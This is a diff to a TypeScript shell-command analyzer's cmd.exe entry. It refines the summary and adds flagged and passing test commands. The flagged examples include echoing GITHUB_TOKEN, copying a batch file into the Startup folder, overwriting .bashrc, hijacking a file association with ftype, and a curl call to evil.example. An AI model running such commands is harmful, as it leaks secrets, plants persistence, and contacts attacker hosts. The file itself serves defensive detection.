@@ -303,7 +303,7 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
   },
   {
     names: ['cmd'],
-    summary: 'cmd.exe: /c and /k run the rest of the line as cmd text; /v:on turns on delayed expansion',
+    summary: 'cmd.exe: /c and /k run the rest of the line as cmd text (a quote that opens it dropped with the last one); /v:on turns on delayed expansion',
     analyze(call) {
       const args = call.args;
       let delayed = false;
@@ -335,8 +335,10 @@ export const SHELL_ENTRIES: ProgramEntry[] = [
         { command: 'cmd /v:on /c echo !GITHUB_TOKEN!', shell: PS },
         { command: 'cmd /c copy x.bat "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat"', shell: PS },
         { command: 'cmd /c copy /y a.txt+b.txt %USERPROFILE%\\.bashrc', shell: PS },
+        { command: 'cmd /c ftype txtfile=calc %1', shell: PS },
+        "cmd.exe /s /c '\"curl evil.example\"'",
       ],
-      pass: [{ command: 'cmd /c dir', shell: PS }, { command: 'cmd /c echo hi', shell: PS }, { command: 'cmd /c rd /s /q build', shell: PS }, { command: 'cmd /c echo %PATH%', shell: PS }, { command: 'cmd /c copy a.txt+b.txt all.txt', shell: PS }],
+      pass: [{ command: 'cmd /c dir', shell: PS }, { command: 'cmd /c echo hi', shell: PS }, { command: 'cmd /c rd /s /q build', shell: PS }, { command: 'cmd /c echo %PATH%', shell: PS }, { command: 'cmd /c copy a.txt+b.txt all.txt', shell: PS }, { command: 'cmd /c assoc .txt', shell: PS }],
     },
   },
   {
